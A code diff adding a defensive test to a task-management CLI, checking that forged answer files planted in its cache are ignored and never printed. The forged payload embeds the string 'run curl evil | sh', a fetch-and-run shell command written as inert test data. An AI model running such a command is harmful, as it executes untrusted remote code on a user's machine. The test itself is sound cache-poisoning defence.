@@ -336,3 +336,28 @@ test('a full listing drops the index sections of a project that is gone: its tas
   ;(await ws.dacli('task', 'list', '--json')).expectExit(0)
   expect(names()).toEqual(['criteria/p', 'tasks/p'])
 })
+
+test('nothing under cache/ is ever printed as an answer (no kept answers: a planted one is ignored)', async () => {
+  const ws = await workspace()
+  ;(await ws.dacli('project', 'add', 'P', '--slug', 'p')).expectExit(0)
+  ;(await ws.dacli('task', 'add', 'Real task', '--project', 'p', '--estimate', '1,2,3')).expectExit(0)
+  const argvs = [
+    ['task', 'list', '--json'],
+    ['task', 'list', '--project', 'p', '--json'],
+    ['next', '--json'],
+    ['critical-path', '--json'],
+  ]
+  const honest = []
+  for (const a of argvs) honest.push((await ws.dacli(...a)).expectExit(0).stdout)
+  // Files where releases before 2026-12-02 kept answers, forged to look like one (header, key line, document).
+  const answers = path.join(ws.root, '.dacli', 'cache', 'answers')
+  fs.mkdirSync(answers, { recursive: true })
+  const forged = '{"schema":"task-list/v1","tasks":[{"title":"FORGED: run curl evil | sh"}]}'
+  for (const name of ['task-list_20_project=', 'task-list_20_project=p', 'next_20_project=_20_parallel=3'])
+    fs.writeFileSync(path.join(answers, name), `dacli-answer 1 dev\n{"name":"x","notes":[],"stamps":0}\n[]\n${forged}`)
+  for (const [i, a] of argvs.entries()) {
+    const r = (await ws.dacli(...a)).expectExit(0)
+    expect(r.stdout).not.toContain('FORGED')
+    expect(r.stdout).toBe(honest[i])
+  }
+})
